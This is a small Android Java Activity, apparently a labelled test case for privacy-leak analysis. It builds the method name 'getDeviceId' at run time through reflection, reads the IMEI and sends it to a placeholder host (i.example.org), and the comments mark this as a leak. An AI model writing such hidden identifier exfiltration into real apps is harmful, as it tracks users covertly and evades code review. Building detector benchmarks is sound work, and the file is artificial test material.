package habits;

import android.app.Activity;
import android.os.Bundle;
import java.lang.reflect.Method;
import java.net.URL;

/** Names of methods put together at run time. */
public class ImeiReflect extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        try {
            Object phone = getSystemService("phone");
            Method read = phone.getClass().getMethod("getDevice" + "Id");
            String id = (String) read.invoke(phone);
            new URL("https://i.example.org/?i=" + id).openStream(); // leak
            Method kind = Class.forName("android.telephony.TelephonyManager").getMethod("getPhoneType");
            new URL("https://i.example.org/?k=" + kind.invoke(phone)).openStream(); // no leak
        } catch (Exception ignored) {
        }
    }
}
